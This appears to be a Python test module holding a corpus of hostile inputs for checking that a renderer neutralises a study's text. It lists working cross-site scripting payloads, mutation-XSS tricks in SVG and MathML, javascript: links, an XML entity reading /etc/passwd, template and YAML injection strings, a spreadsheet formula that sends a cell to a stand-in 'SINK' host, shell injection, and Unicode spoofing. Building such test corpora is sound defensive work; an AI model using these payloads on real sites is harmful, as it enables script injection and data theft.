"""What a study may be called by someone who means harm, or by accident: words, wherever they stand.

``SINK`` stands for the address of a server that counts who calls; ``acted`` is what a script would set.
"""

from __future__ import annotations

SINK = "SINK"
ACT = "window.acted=1"
DEEP = 1100  # more than the calls in calls that Python allows

MARKUP = {
    "script": f"<script>{ACT}</script>",
    "script after the end": f"--></title></style></script></textarea></noscript><script>{ACT}</script>",
    "script from elsewhere": "<script src=SINK/s.js></script><script type=module>import 'SINK/m'</script>",
    "script left open": f"<script>{ACT}//",
    "script inside script": f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    "script in capitals": f"<SCRIPT/x>{ACT}</SCRIPT\t>",
    "handler of an image": f"<img src=x onerror={ACT}>",
    "handler out of double quotes": f'"><svg onload={ACT}>',
    "handler out of single quotes": f"' onfocus='{ACT}' autofocus tabindex=0 x='",
    "handler without quotes": f"x onmouseover={ACT} autofocus onfocus={ACT} y=",
    "handler of the body": f"<body onload={ACT} onpageshow={ACT}>",
    "handler of a fold": f"<details open ontoggle={ACT}>x",
    "handler of a field": f"<input autofocus onfocus={ACT}><select autofocus onfocus={ACT}>",
    "handler of a video": f"<video><source onerror={ACT}></video><audio src=SINK/a.mp3 onerror={ACT}>",
    "handler of an animation": f"<style>@keyframes x{{}}</style><p style=animation:x onanimationstart={ACT}>",
    "frame": f"<iframe src=SINK/frame srcdoc='<script>parent.{ACT}</script>'></iframe>",
    "object": "<object data=SINK/object></object><embed src=SINK/embed>",
    "picture from elsewhere": "<picture><source srcset=SINK/s><img src=SINK/i srcset='SINK/2 2x'></picture>",
    "style sheet": "<style>@import url(SINK/a.css); * { display: none !important }</style>",
    "style of a tag": "<p style='position:fixed;inset:0;background:#fff url(SINK/a.png)'>covers all",
    "style by escapes": r"</style><p style='\62 ackground:u\72l(SINK/b.png)'>\3c b\3e",
    "linked style sheet": "<link rel=stylesheet href=SINK/c.css><link rel=prefetch href=SINK/d>",
    "refresh": "<meta http-equiv=refresh content='0;url=SINK/gone'>",
    "base": "<base href=SINK/ target=_blank>",
    "form": f"<form action=SINK/form><button autofocus formaction=javascript:{ACT}>Send</button></form>",
    "another policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *; img-src 'none'\">",
    "SVG with a script": f"<svg><script>{ACT}</script><image href=SINK/svg.png /></svg>",
    "SVG that moves a link": f"<svg><a><animate attributeName=href values=javascript:{ACT} /><text>x</text>",
    "SVG that sets a handler": f"<svg><set attributeName=onclick to={ACT} /><use href=SINK/u.svg#x /></svg>",
    "SVG with a foreign object": "<svg><foreignObject><iframe src=SINK/f></iframe></foreignObject></svg>",
    "SVG that is parsed twice": f'<svg></p><style><a id="</style><img src=x onerror={ACT}>">',
    "MathML that is parsed twice": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    f'&lt;img src=1 onerror={ACT}&gt;">',
    "MathML with a link": f"<math href='javascript:{ACT}'><mi xlink:href='javascript:{ACT}'>x</mi></math>",
    "MathML with an annotation": f"<math><annotation-xml encoding=text/html><img src=x onerror={ACT}>",
    "noscript that is parsed twice": f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    "template": f"<template shadowrootmode=open><script>{ACT}</script><img src=x onerror={ACT}></template>",
    "all that follows as text": "<plaintext><xmp><textarea><title>",
    "comment": f"<!--><script>{ACT}</script>--><!-- never closed",
    "CDATA": f"<![CDATA[><script>{ACT}</script>]]>",
    "entity of XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "names of the page": "<a id=acted></a><form name=getSelection id=command><img name=body id=content>",
    "end of everything": "</td></tr></table></figure></details></div></main></body></html>gone",
    "heading of its own": "</h1></header><h1>Another finding</h1><table><tr><th>none<td>100 %</table>",
}
LINKS = {
    "link to a script": f"<a href='javascript:{ACT}'>x</a>",
    "link in Markdown": f"[x](javascript:{ACT}) [y](SINK/y 'z') ![z](SINK/pixel.png)",
    "link with entities": f"[x](javascript&colon;{ACT}) [y](&#106;avascript:{ACT}) [z](java\tscript:{ACT})",
    "link to data": "[x](data:text/html;base64,PHNjcj4=) <a href='data:text/html,<script>1</script>'>y</a>",
    "link by itself": f"<javascript:{ACT}> <SINK/auto> SINK/bare www.example.org a@example.org",
    "link by reference": f"[x][1] ![y][2]\n\n[1]: javascript:{ACT}\n[2]: SINK/reference.png",
    "link to files": "[x](file:///etc/passwd) [y](//127.0.0.1/y) [z](../../../etc/passwd) [w](\\\\host\\w)",
    "link in a footnote": f"x[^1]\n\n[^1]: [y](vbscript:{ACT}) <blob:SINK/z>",
}
TEMPLATES = {
    "mermaid": f'```mermaid\ngraph TD; A["<img src=x onerror={ACT}>"]\nclick A href "javascript:{ACT}"\n```',
    "Jinja": "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}{# gone #}",
    "Angular": f"{{{{constructor.constructor('{ACT}')()}}}}<p ng-app ng-init={ACT} v-html=x>",
    "Handlebars": '{{#with "s" as |x|}}{{{lookup x "constructor"}}}{{/with}}',
    "templates": f"${{{ACT}}} <%= 7 * 7 %> #{{7 * 7}} $(touch x) `touch x` @(7*7) %s %(x)s {{0}} {{x!r}}",
    "prototype": f"__proto__[acted]=1 constructor.prototype.{ACT} toString valueOf",
    "YAML": '!!python/object/apply:os.system ["true"]\n&a [*a]\n---\n<<: *b\n? !!null : - {x: 1',
    "spreadsheet": '=HYPERLINK("SINK/?x="&A1,"click")',
    "spreadsheet, in other ways": "@SUM(1+1)*cmd|' /C calc'!A0\n+1+1\n-1+1\n\t=1+1,\"=1\";=2",
    "shell": '\'; touch x; "$(touch x)" && `touch x` | true > x #',
}
FORMULAS = {
    "formula that ends": f"</code></math></span><script>{ACT}</script>\\text{{<img src=x onerror={ACT}>}}",
    "formula with a link": f"\\href{{javascript:{ACT}}}{{x}} \\url{{SINK/u}} \\includegraphics{{SINK/g.png}}",
    "formula with a style": "\\style{position:fixed}{x} \\class{top}{y} \\cssId{content}{z} \\html{<hr>}",
    "formula of itself": "\\def\\x{\\x\\x}\\x \\newcommand{\\y}{\\y}\\y \\input{/etc/passwd}",
    "formula left open": "$\\frac{1}{ $ and $$ \\begin{array}{c} $$ \\left( } } \\right",
    "formula of a figure": "$\\frac{1}{0$ 100 % _x_ ^2 $\\unknown{x}$ \\$5",
}
CHARACTERS = {
    "turned around": "gnp.\u202egpj\u202d 2.1 \u2067points\u2066 \u200fx\u061c",
    "control characters": "a\x00b\x07c\x08d\x1b[31mred\x1b[0m \x1b]8;;SINK/l\x07e\x1b]8;;\x07 \x7f\x80\x9b",
    "ends of lines": "one\rtwo\r\nthree\x0bfour\x0cfive\x85six\u2028seven\u2029eight\n\n\n\nnine",
    "no character": "a\ufffeb\uffffc\ufdd0d\U0001ffffe\ufffdf",
    "half a character": "a\ud800b\udc00c",
    "without width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh",
    "look-alikes": f"＜script＞{ACT}＜/script＞ ‹script› <ſcript>{ACT}</ſcript> ＂ onload=x \u212a ʺ ’",
    "entities": f"&lt;script&gt;{ACT}&lt;/script&gt; &#60;b&#62; &amp;lt; &#0; &#x110000; &notone; &copy",
    "emoji and marks": "👩\u200d👩\u200d👧 🏴\U000e0067\U000e007f Z" + "\u0324\u0489" * 8,
    "blank": " \t\u00a0\u3000 ",
}
LONG = "w" * 100_000
SIZES = {
    "a word of wide signs": "𒐫﷽" * 100,
    "many lines": "x\n" * 1_000,
    "tags in tags": "<div>" * 300 + "x",
    "quotes in quotes": "> " * DEEP + "x",
    "brackets in brackets": "[" * DEEP + "x" + "](" * DEEP,
    "stars and ticks": "*_" * DEEP + "x" + "`" * DEEP,
    "lists in lists": "\n".join("  " * k + "- x" for k in range(120)),
    "a table of bars": "|" * DEEP + "\n" + "|-" * DEEP + "|\n" + "|x" * DEEP,
    "headings": "# one\n\n## command\n\n## content\n\n###### provenance\n\ntwo\n===\n\n## \n\n---",
}
FAMILIES = {
    "markup": MARKUP,
    "links": LINKS,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "characters": CHARACTERS,
    "sizes": SIZES,
}
CORPUS = {name: text for those in FAMILIES.values() for name, text in those.items()}

# what acts when it stands in a page as it is: proof that the corpus means harm, and that it would be seen
ACTIVE = (
    *(
        "script",
        "script from elsewhere",
        "handler of an image",
        "handler of a fold",
        "frame",
        "style of a tag",
    ),
    *("linked style sheet", "refresh", "SVG that is parsed twice", "MathML with an annotation"),
)
